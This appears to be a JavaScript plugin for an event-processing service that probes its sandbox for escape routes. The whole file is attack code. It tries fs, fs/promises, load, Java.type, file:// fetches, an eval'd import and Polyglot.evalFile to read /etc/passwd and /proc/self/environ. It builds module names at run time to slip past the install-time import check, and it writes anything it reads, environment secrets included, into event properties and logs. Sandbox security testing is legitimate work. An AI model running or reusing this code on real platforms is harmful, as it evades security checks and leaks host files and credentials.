// Runs each escape route and records what it got in event.properties.escape_attempts:
// "refused: <error>" when the route failed, "OPEN: <what it returned>" when it worked. It also
// logs each result, so the app log shows what was tried. Module names are built at run time so
// the install-time import check does not refuse the app before the worker can be probed.
async function attempt(results, route, fn) {
  try {
    const value = await fn()
    results[route] = "OPEN: " + describe(value)
  } catch (e) {
    results[route] = "refused: " + describe(e && e.message !== undefined ? e.message : e)
  }
  console.log(route + " -> " + results[route])
}

function describe(value) {
  try {
    return String(value).slice(0, 200)
  } catch (e) {
    return typeof value
  }
}

const moduleName = (...parts) => parts.join("")

export async function processEvent(event) {
  const results = {}
  await attempt(results, "require fs", () => require(moduleName("f", "s")).readFileSync("/etc/passwd", "utf8"))
  await attempt(results, "require fs/promises", () => require(moduleName("fs", "/promises")).readFile("/proc/self/environ", "utf8"))
  await attempt(results, "load", () => load("/etc/passwd"))
  await attempt(results, "Java.type Files", () => Java.type("java.nio.file.Files").readString(Java.type("java.nio.file.Path").of("/etc/passwd")))
  await attempt(results, "fetch file:///etc/passwd", async () => (await fetch("file:///etc/passwd")).text())
  await attempt(results, "fetch file:///proc/self/environ", async () => (await fetch("file:///proc/self/environ")).text())
  await attempt(results, "dynamic import", () => (0, eval)(moduleName("imp", "ort('/etc/passwd')")))
  await attempt(results, "Polyglot.evalFile", () => Polyglot.evalFile("js", "/etc/passwd"))
  event.properties.escape_attempts = results
  return event
}
